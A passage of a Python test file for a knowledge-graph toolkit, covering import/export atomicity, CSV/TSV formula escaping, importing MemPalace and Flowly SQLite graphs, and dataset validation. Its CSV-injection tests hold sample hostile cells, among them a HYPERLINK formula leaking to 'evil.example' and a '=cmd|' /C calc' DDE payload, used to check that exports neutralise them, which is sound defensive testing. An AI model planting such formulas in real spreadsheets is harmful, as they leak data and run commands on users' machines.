    monkeypatch.setattr(bulk, "_CHUNK", 2)  # several chunks, so the interrupt lands midway
    monkeypatch.setattr(dump_module, "_CHUNK", 2)
    kg.add("Zed", "knows", "Alice", valid_from="2020")
    kg.alias("Z", "zed")
    csv_path, json_path = tmp_path / "many.csv", tmp_path / "all.json"
    pl.DataFrame({"subject": [f"s{i}" for i in range(10)], "predicate": "p", "object": "o"}).write_csv(csv_path)
    source = fresh("source")
    build_sample(source)
    io.export_file(source, json_path)
    calls: list[tuple[int, int]] = []

    def interrupt(done: int, total: int) -> None:
        calls.append((done, total))
        if done > 0:
            raise KeyboardInterrupt

    before = dump(where(kg))
    with pytest.raises(KeyboardInterrupt):
        io.import_file(kg, csv_path, progress=interrupt)
    assert calls == [(0, 10), (2, 10)] and dump(where(kg)) == before
    with pytest.raises(KeyboardInterrupt):  # a merge of a dump (into this non-empty graph)
        io.import_file(kg, json_path, progress=interrupt, allow_commas=True)
    assert dump(where(kg)) == before
    empty = fresh("empty")
    empty_before = dump(where(empty))
    with pytest.raises(KeyboardInterrupt):  # an exact restore
        io.import_file(empty, json_path, progress=interrupt)
    assert dump(where(empty)) == empty_before and dump_module.is_empty(empty)
    # The graphs still work afterwards.
    assert io.import_file(kg, csv_path).inserted == 10
    assert io.import_file(empty, json_path).inserted == 7


def test_export_is_all_or_nothing(sample: KnowledgeGraph, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old contents\n", encoding="utf-8")

    def interrupt(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        io.export_file(sample, path, progress=interrupt)
    assert path.read_text(encoding="utf-8") == "old contents\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.csv")] == []


def test_tsv_export_refuses_tabs(kg: KnowledgeGraph, tmp_path: Path) -> None:
    kg.add("a", "p", "b", source="line one\tline two")
    with pytest.raises(InvalidRequest, match="tab or a line break"):
        io.export_file(kg, tmp_path / "x.tsv")
    assert io.export_file(kg, tmp_path / "x.csv") == 1


# ---------------------------------------------------------------------- formulas in CSV/TSV (CSV injection)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
_LIVE = re.compile(r"[=+\-@\t\r]")  # what a spreadsheet runs as a formula at the start of a cell


@pytest.fixture
def formulas(kg: KnowledgeGraph) -> KnowledgeGraph:
    """Facts whose text a spreadsheet would run: a formula object, an @ subject, a leading -, +, and ' ."""
    kg.add("@SUM(A1)", "url", HYPERLINK, valid_from="2026-01-01")
    kg.add("-minus", "note", "+1 555 0100", source="=cmd|' /C calc'!A0")
    kg.add("plain", "note", "'=quoted already", source="'kept as is")
    kg.add("Ann", "works_at", "Acme", valid_from="2025-02")
    return kg


def _cells(path: Path, fmt: str) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        if fmt == "csv":
            return list(csv.DictReader(fh))
        return list(csv.DictReader(fh, delimiter="\t", quoting=csv.QUOTE_NONE))


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_escapes_formulas_and_import_takes_the_escape_off(
    formulas: KnowledgeGraph, fresh, tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"facts.{fmt}"
    assert io.export_file(formulas, path) == 4
    rows = {r["subject_name"]: r for r in _cells(path, fmt)}
    assert set(rows) == {"'@SUM(A1)", "'-minus", "plain", "Ann"}
    assert (rows["'@SUM(A1)"]["subject"], rows["'@SUM(A1)"]["object_name"]) == ("'@sum(a1)", "'" + HYPERLINK)
    assert (rows["'-minus"]["object_name"], rows["'-minus"]["source"]) == ("'+1 555 0100", "'=cmd|' /C calc'!A0")
    # A value that begins with ' before a formula character gets one more, so the import's one-off is exact.
    assert (rows["plain"]["object_name"], rows["plain"]["source"]) == ("''=quoted already", "'kept as is")
    assert rows["Ann"]["object_name"] == "Acme" and rows["Ann"]["valid_from"] == "2025-02-01"  # the rest as it was
    assert not [v for r in rows.values() for v in r.values() if v and _LIVE.match(v)]  # nothing a spreadsheet runs
    target = fresh()
    assert io.import_file(target, path, allow_commas=True).inserted == 4
    assert fact_rows(target) == fact_rows(formulas)  # the round trip gives the same facts


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_without_escaping_writes_cells_as_they_are(
    formulas: KnowledgeGraph, fresh, tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"raw.{fmt}"
    io.export_file(formulas, path, escape_formulas=False)
    rows = {r["subject_name"]: r for r in _cells(path, fmt)}
    assert set(rows) == {"@SUM(A1)", "-minus", "plain", "Ann"}
    assert rows["@SUM(A1)"]["object_name"] == HYPERLINK and rows["-minus"]["source"] == "=cmd|' /C calc'!A0"
    assert rows["plain"]["object_name"] == "'=quoted already"
    target = fresh()
    io.import_file(target, path, allow_commas=True)
    # The same facts, but for the one documented exception: text beginning with ' and = loses that '.
    [quoted] = [f for f in target.query("plain")]
    assert quoted.object == "=quoted already" and quoted.source == "'kept as is"
    assert [r for r in fact_rows(target) if r[0] != "plain"] == [r for r in fact_rows(formulas) if r[0] != "plain"]


def test_formulas_are_kept_verbatim_in_jsonl_and_parquet(formulas: KnowledgeGraph, tmp_path: Path) -> None:
    for fmt in ("jsonl", "parquet"):
        path = tmp_path / f"facts.{fmt}"
        io.export_file(formulas, path)
        back = io.read_facts_file(path)
        assert {"@SUM(A1)", "-minus", "plain"} <= set(back["subject"].to_list())
        assert {HYPERLINK, "'=quoted already"} <= set(back["object"].to_list())


def test_rejects_file_escapes_formulas(kg: KnowledgeGraph, tmp_path: Path) -> None:
    path, rejects = tmp_path / "bad.csv", tmp_path / "rejects.csv"
    path.write_text(
        'subject,predicate,object,valid_from\n@evil,url,"=HYPERLINK(""x"",""y"")",19##\nok,p,o,\n', encoding="utf-8"
    )
    report = io.import_file(kg, path, on_error="skip", rejects=rejects, allow_commas=True)
    assert (report.inserted, report.rejected) == (1, 1)
    [row] = _cells(rejects, "csv")
    assert (row["subject"], row["object"], row["value"]) == ("'@evil", '\'=HYPERLINK("x","y")', "19##")


# ====================================================================== other programs' SQLite graphs

# MemPalace 3.11.0, mempalace/knowledge_graph.py, KnowledgeGraph._init_db (verbatim).
MEMPALACE_DDL = """
            PRAGMA journal_mode=WAL;

            CREATE TABLE IF NOT EXISTS entities (
                id TEXT PRIMARY KEY,
                name TEXT NOT NULL,
                type TEXT DEFAULT 'unknown',
                properties TEXT DEFAULT '{}',
                created_at TEXT DEFAULT CURRENT_TIMESTAMP
            );

            CREATE TABLE IF NOT EXISTS triples (
                id TEXT PRIMARY KEY,
                subject TEXT NOT NULL,
                predicate TEXT NOT NULL,
                object TEXT NOT NULL,
                valid_from TEXT,
                valid_to TEXT,
                confidence REAL DEFAULT 1.0,
                source_closet TEXT,
                source_file TEXT,
                source_drawer_id TEXT,
                adapter_name TEXT,
                extracted_at TEXT DEFAULT CURRENT_TIMESTAMP,
                FOREIGN KEY (subject) REFERENCES entities(id),
                FOREIGN KEY (object) REFERENCES entities(id)
            );

            CREATE INDEX IF NOT EXISTS idx_triples_subject ON triples(subject);
            CREATE INDEX IF NOT EXISTS idx_triples_object ON triples(object);
            CREATE INDEX IF NOT EXISTS idx_triples_predicate ON triples(predicate);
            CREATE INDEX IF NOT EXISTS idx_triples_valid ON triples(valid_from, valid_to);
        """


class MemPalaceFile:
    """Writes a knowledge_graph.sqlite3 the way MemPalace's KnowledgeGraph does (same SQL, same ids)."""

    def __init__(self, path: Path, ddl: str = MEMPALACE_DDL) -> None:
        self.conn = sqlite3.connect(path)
        self.conn.executescript(ddl)
        self.columns = {r[1] for r in self.conn.execute("PRAGMA table_info(triples)")}

    @staticmethod
    def entity_id(name: str) -> str:
        return name.lower().replace(" ", "_").replace("'", "")

    def add_entity(self, name: str, entity_type: str = "unknown", properties: dict | None = None) -> None:
        self.conn.execute(
            "INSERT OR REPLACE INTO entities (id, name, type, properties) VALUES (?, ?, ?, ?)",
            (self.entity_id(name), name, entity_type, json.dumps(properties or {})),
        )

    def add_triple(
        self,
        subject: str,
        predicate: str,
        obj: str,
        valid_from: str | None = None,
        valid_to: str | None = None,
        confidence: float = 1.0,
        **provenance: str,
    ) -> None:
        sub_id, obj_id = self.entity_id(subject), self.entity_id(obj)
        pred = predicate.lower().replace(" ", "_")
        self.conn.execute("INSERT OR IGNORE INTO entities (id, name) VALUES (?, ?)", (sub_id, subject))
        self.conn.execute("INSERT OR IGNORE INTO entities (id, name) VALUES (?, ?)", (obj_id, obj))
        digest = hashlib.sha256(f"{valid_from}|{dt.datetime.now().isoformat()}".encode()).hexdigest()[:12]
        fields = {
            "id": f"t_{sub_id}_{pred}_{obj_id}_{digest}",
            "subject": sub_id,
            "predicate": pred,
            "object": obj_id,
            "valid_from": valid_from,
            "valid_to": valid_to,
            "confidence": confidence,
            **{k: v for k, v in provenance.items() if k in self.columns},
        }
        self.conn.execute(
            f"INSERT INTO triples ({', '.join(fields)}) VALUES ({', '.join('?' * len(fields))})", tuple(fields.values())
        )

    def close(self) -> None:
        self.conn.commit()
        self.conn.close()


def make_mempalace(path: Path, ddl: str = MEMPALACE_DDL) -> Path:
    palace = MemPalaceFile(path, ddl)
    palace.add_entity("Max", "person", {"age": 11})
    palace.add_entity("Alice", "person")
    palace.add_entity("Chess", "concept")  # a type outside kgtoolkit's default vocabulary
    palace.add_triple(
        "Max", "child_of", "Alice", valid_from="2015-04-01", source_closet="closet_7", source_file="notes/family.md"
    )
    palace.add_triple(
        "Max", "does", "swimming", valid_from="2025-01-01", source_file="diary.md", adapter_name="diary_ingest"
    )
    palace.add_triple("Max", "loves", "Chess", valid_from="2025-10-01T09:30:00Z", confidence=0.8)
    palace.add_triple("Max", "has_issue", "sports injury", valid_from="2026-01-01", valid_to="2026-02-15")
    palace.add_triple("Alice", "email", "alice@example.com")
    palace.add_triple(
        "Alice", "worried about", "Max injury", valid_from="2026-02-01", valid_to="2026-01-01"
    )  # inverted
    palace.conn.execute("CREATE TABLE drawers (id TEXT PRIMARY KEY, body TEXT)")
    palace.conn.execute("INSERT INTO drawers VALUES ('d1', 'verbatim text')")
    palace.conn.execute("ALTER TABLE triples ADD COLUMN mood TEXT")
    palace.close()
    return path


def test_mempalace_file(kg: KnowledgeGraph, tmp_path: Path, dump) -> None:
    path = make_mempalace(tmp_path / "knowledge_graph.sqlite3")
    original = dump(path)
    before = dump(where(kg))
    with pytest.raises(InvalidRows) as excinfo:  # the inverted interval refuses the whole file
        io.import_file(kg, path)
    assert [(r["line"], r["field"]) for r in excinfo.value.data["rows"]] == [(6, "valid_to")]
    assert dump(where(kg)) == before
    report = io.import_file(kg, path, on_error="skip", rejects=tmp_path / "rejects.csv")
    assert (report.rows, report.inserted, report.rejected) == (6, 5, 1)
    warnings = "\n".join(report.warnings)
    assert "drawers (1 rows)" in warnings and "triples.mood" in warnings
    assert "triples.id" in warnings and "triples.extracted_at" in warnings and "entities.created_at" in warnings
    assert "concept (1)" in warnings
    facts = {(f.subject, f.predicate, f.object): f for f in kg.timeline()}
    child = facts[("max", "child_of", "alice")]
    assert (child.valid_from, child.source_closet, child.source) == ("2015-04-01", "closet_7", "agent")
    assert facts[("max", "does", "swimming")].source == "diary_ingest"
    assert facts[("max", "does", "swimming")].source_closet == "diary.md"
    assert facts[("max", "loves", "chess")].confidence == 0.8
    assert facts[("max", "has_issue", "sports_injury")].valid_to == "2026-02-15"
    email = facts[("alice", "email", "alice@example.com")]
    assert email.object_is_value
    with pytest.raises(kgtoolkit.NotFound):
        kg.entity("alice@example.com")  # a value, not an entity node
    assert kg.entity("Max").type == "person" and dict(kg.entity("Max").properties) == {"age": 11}
    assert kg.entity("chess").type == "unknown"
    assert dump(path) == original  # read-only: the other program's file is untouched
    again = io.import_file(kg, path, on_error="skip")
    assert again.inserted == 0 and again.duplicates == 5


def test_mempalace_file_before_provenance_columns(kg: KnowledgeGraph, tmp_path: Path) -> None:
    """Palaces created before source_drawer_id / adapter_name existed (MemPalace adds them on open)."""
    old = MEMPALACE_DDL.replace("                source_drawer_id TEXT,\n", "").replace(
        "                adapter_name TEXT,\n", ""
    )
    path = make_mempalace(tmp_path / "old.sqlite3", old)
    report = io.import_file(kg, path, on_error="skip")
    assert report.inserted == 5
    assert kg.by_predicate("does")[0].source == "agent"  # no adapter_name column: the default source


# Flowly publishes no DDL; this follows its documented data model (entities, triples with source, aliases).
FLOWLY_DDL = """
CREATE TABLE entities (id TEXT PRIMARY KEY, name TEXT NOT NULL, type TEXT NOT NULL DEFAULT 'unknown',
                       properties TEXT NOT NULL DEFAULT '{}', created_at TEXT, updated_at TEXT);
CREATE TABLE triples (id INTEGER PRIMARY KEY AUTOINCREMENT, subject TEXT NOT NULL, predicate TEXT NOT NULL,
                      object TEXT NOT NULL, valid_from TEXT, valid_to TEXT, confidence REAL DEFAULT 1.0,
                      source TEXT DEFAULT 'agent', created_at TEXT);
CREATE TABLE aliases (alias TEXT PRIMARY KEY, entity_id TEXT NOT NULL, created_at TEXT);
CREATE TABLE sessions (id TEXT);
"""


def test_flowly_file(kg: KnowledgeGraph, tmp_path: Path) -> None:
    path = tmp_path / "flowly.sqlite3"
    conn = sqlite3.connect(path)
    conn.executescript(FLOWLY_DDL)
    conn.executemany(
        "INSERT INTO entities (id, name, type, properties) VALUES (?, ?, ?, ?)",
        [
            ("alice", "Alice", "person", '{"team": "core"}'),
            ("nocetic", "Nocetic", "company", "not json"),
            ("obrien_corp", "O'Brien Corp", "company", "{}"),
        ],
    )
    conn.executemany(
        "INSERT INTO triples (subject, predicate, object, valid_from, valid_to, source) VALUES (?, ?, ?, ?, ?, ?)",
        [
            ("alice", "works_at", "nocetic", "2024-01-01", "2026-03-01", "agent"),
            ("alice", "works_at", "obrien_corp", "2026-03-01", None, "user"),
            ("alice", "email", "alice@example.com", None, None, None),
            ("alice", "knows", "bob, carol", None, None, "agent"),
        ],
    )
    conn.executemany("INSERT INTO aliases (alias, entity_id) VALUES (?, ?)", [("ally", "alice"), ("nocetic", "alice")])
    conn.commit()
    conn.close()
    report = io.import_file(kg, path, format="sqlite", on_error="skip", comma_guard=True)
    assert (report.rows, report.inserted, report.rejected) == (4, 3, 1)
    assert report.rejects[0]["line"] == 4 and report.rejects[0]["field"] == "object"  # the comma guard holds
    warnings = "\n".join(report.warnings)
    assert "sessions (0 rows)" in warnings and "aliases.created_at" in warnings and "entities.updated_at" in warnings
    assert "not a JSON object" in warnings and "'nocetic' is an entity" in warnings
    assert kg.resolve("Ally") == "alice"
    assert kg.entity("O'Brien Corp").name == "O'Brien Corp"
    assert dict(kg.entity("alice").properties) == {"team": "core"}
    assert [f.source for f in kg.query("alice", current_only=True) if f.predicate == "works_at"] == ["user"]


def test_kgtoolkit_sqlite_file_imports_like_its_dump(sample: KnowledgeGraph, fresh, tmp_path: Path) -> None:
    """Another kgtoolkit graph's SQLite file (a source, so always a file) into a graph on either backend."""
    dumped, file = tmp_path / "sample.json", tmp_path / "other.sqlite3"
    io.export_file(sample, dumped)
    with kgtoolkit.open(file) as other:  # a kgtoolkit SQLite file holding the sample, exactly
        io.import_file(other, dumped)
        with pytest.raises(InvalidRequest, match="own file"):
            io.import_file(other, file)
    target = fresh()
    report = io.import_file(target, file)
    assert report.inserted == 7
    assert read_table(target, "facts").to_pylist() == read_table(sample, "facts").to_pylist()
    # Exactly like its dump: the same bytes exported from the file's graph and from the target.
    with kgtoolkit.open(file, read_only=True) as other:
        io.export_file(other, tmp_path / "file.json")
    io.export_file(target, tmp_path / "target.json")
    assert (tmp_path / "target.json").read_bytes() == (tmp_path / "file.json").read_bytes() == dumped.read_bytes()


def test_not_a_graph_file(kg: KnowledgeGraph, tmp_path: Path) -> None:
    path = tmp_path / "other.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE notes (id INTEGER, body TEXT)")
    conn.close()
    with pytest.raises(InvalidRequest, match=r"no 'triples' table \(tables: notes\)"):
        io.import_file(kg, path)


# ====================================================================== real datasets


def _date(text: str) -> dt.date | None:
    """Independent of kgtoolkit: a full YYYY-MM-DD date in years 0001-9999, or None."""
    if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", text):
        return None
    try:
        return dt.date(int(text[:4]), int(text[5:7]), int(text[8:]))
    except ValueError:
        return None


def _expected(tsv: Path) -> tuple[list[list[str]], dict[int, set[tuple[str, str]]]]:
    """The rows (by file line) and the problems each bad line must be rejected for."""
    rows = [line.rstrip("\n").split("\t") for line in tsv.open(encoding="utf-8")]
    problems: dict[int, set[tuple[str, str]]] = {}
    for number, row in enumerate(rows[1:], start=2):
        subject, predicate, obj, start, end = row
        found = {
            (field, "empty")
            for field, value in (("subject", subject), ("predicate", predicate), ("object", obj))
            if not value.strip()
        }
        first, last = _date(start) if start else None, _date(end) if end else None
        if start and first is None:
            found.add(("valid_from", "invalid_date"))
        if end and last is None:
            found.add(("valid_to", "invalid_date"))
        if first and last and last < first:
            found.add(("valid_to", "interval_order"))
        if found:
            problems[number] = found
    return rows, problems


def _kind(reason: str) -> str:
    if "is not a date" in reason:
        return "invalid_date"
    if "is before valid_from" in reason:
        return "interval_order"
    if "is empty" in reason:
        return "empty"
    return reason


def _anomalies(folder: Path, rows: list[list[str]]) -> dict[str, set[int]]:
    """anomalies.tsv by kind, as facts.tsv lines (facts.tsv = train + valid + test, sizes from the README)."""
    sizes = re.search(r"train\+valid\+test \((\d+)\+(\d+)\+(\d+)", (folder / "README.md").read_text(encoding="utf-8"))
    assert sizes, "README no longer states the split sizes"
    train, valid, test = (int(n) for n in sizes.groups())
    assert train + valid + test == len(rows) - 1
    offset = {"train": 0, "valid": train, "test": train + valid}
    kinds: dict[str, set[int]] = {}
    with (folder / "anomalies.tsv").open(encoding="utf-8") as fh:
        for record in csv.DictReader(fh, delimiter="\t", quoting=csv.QUOTE_NONE):
            line = offset[record["split"]] + int(record["line"]) + 1
            assert rows[line - 1][:3] == [record["subject"], record["predicate"], record["object"]], record
            kinds.setdefault(record["kind"], set()).add(line)
    return kinds


@pytest.mark.slow
@pytest.mark.parametrize("name", ["yago11k", "icews14", "wikidata12k"])
def test_real_dataset(name: str, real_graph: Callable[..., RealGraph]) -> None:
    folder = DATA / name
    if not (folder / "facts.tsv").is_file():
        pytest.skip(f"dataset {name} not present in {DATA}")
    rows, expected = _expected(folder / "facts.tsv")
    # io.import_file(kg, facts.tsv, on_error="skip", allow_commas=True, rejects=…), run once per test process
    imported = real_graph(name, on_error="skip", allow_commas=True)
    report, rejects_path = imported.report, imported.rejects
    assert rejects_path is not None
    with kgtoolkit.open(imported.db) as kg:
        got: dict[int, set[tuple[str, str]]] = {}
        for r in report.rejects:
            got.setdefault(r["line"], set()).add((r["field"], _kind(r["reason"])))
        assert got == expected
        assert report.rows == len(rows) - 1 and report.rejected == len(expected)
        assert pl.read_csv(rejects_path, infer_schema=False)["line"].cast(pl.Int64).unique().sort().to_list() == sorted(
            expected
        )

        # What the dataset's own documentation says about these rows.
        if (folder / "anomalies.tsv").is_file():
            kinds = _anomalies(folder, rows)
            assert kinds.get("bce_year", set()) == {n for n, p in got.items() if ("valid_from", "invalid_date") in p}
            assert kinds.get("end_before_start", set()) == {
                n for n, p in got.items() if ("valid_to", "interval_order") in p
            }
            # Placeholders (19##), malformed and impossible dates became empty: imported, with open ends.
            emptied = (
                kinds.get("partial_year_placeholder", set())
                | kinds.get("malformed", set())
                | kinds.get("invalid_month", set())
            )
            assert not emptied & set(got)
            for line in emptied:
                assert "" in rows[line - 1][3:5]
            # Years below 1000 are real years (zero-padded), accepted.
            early = kinds.get("year_lt_1000", set()) - kinds.get("bce_year", set()) - set(got)
            assert early and all(rows[n - 1][3][:1] == "0" or rows[n - 1][4][:1] == "0" for n in early)
        else:
            assert not expected  # ICEWS14: every event is a clean single day

        # What is stored = the good rows minus duplicates (a current fact once per subject/predicate/object,
        # a history row once per interval), empty dates as open ends; computed here independently.
        stored: dict[tuple[str, ...], tuple[str | None, ...]] = {}
        entities: set[str] = set()
        for number, (s, p, o, start, end) in enumerate(rows[1:], start=2):
            if number in expected:
                continue
            ids = (normalize_name(s), normalize_predicate(p), normalize_name(o))
            stored.setdefault(ids if not end else (*ids, start, end), (*ids, start or None, end or None))
            entities.update((ids[0], ids[2]))
        assert not {normalize_predicate(r[1]) for r in rows[1:]} & kg.config.value_predicates
        facts = frames.facts(kg).select("subject", "predicate", "object", "valid_from", "valid_to")
        assert sorted(facts.rows(), key=repr) == sorted(stored.values(), key=repr)
        assert report.inserted == len(stored) == kg.stats().facts
        assert report.duplicates == report.rows - report.rejected - report.inserted
        assert report.entities_created == len(entities) == kg.stats().entities


def test_a_refusal_is_a_short_summary_and_the_first_rows(kg: KnowledgeGraph, tmp_path: Path) -> None:
    # A refusal used to be one line of 4.5 KB: twenty problems joined by "; ".
    rows = [[f"a{i}", "p", "b, c", f"20x{i}"] for i in range(40)]
    path = write_tsv(tmp_path / "bad.tsv", rows, ["subject", "predicate", "object", "valid_from"])
    with pytest.raises(InvalidRows) as refused:
        io.import_file(kg, path, comma_guard=True)
    lines = refused.value.message.splitlines()
    assert lines[0] == "80 problem(s) in 40 row(s), nothing imported (40 invalid_date, 40 comma_list):"
    assert lines[1].startswith("  line 2 valid_from '20x0': ") and len(lines) == 1 + InvalidRows.LISTED + 2
    assert lines[-2] == "  … and 75 more (a rejects file lists every one)"  # data["rows"] holds them in Python
    assert "on_error='skip'" in lines[-1] and "rejects=FILE" in lines[-1]  # the CLI names --on-error, --rejects
    assert len(refused.value.data["rows"]) == 80 and kg.stats().facts == 0
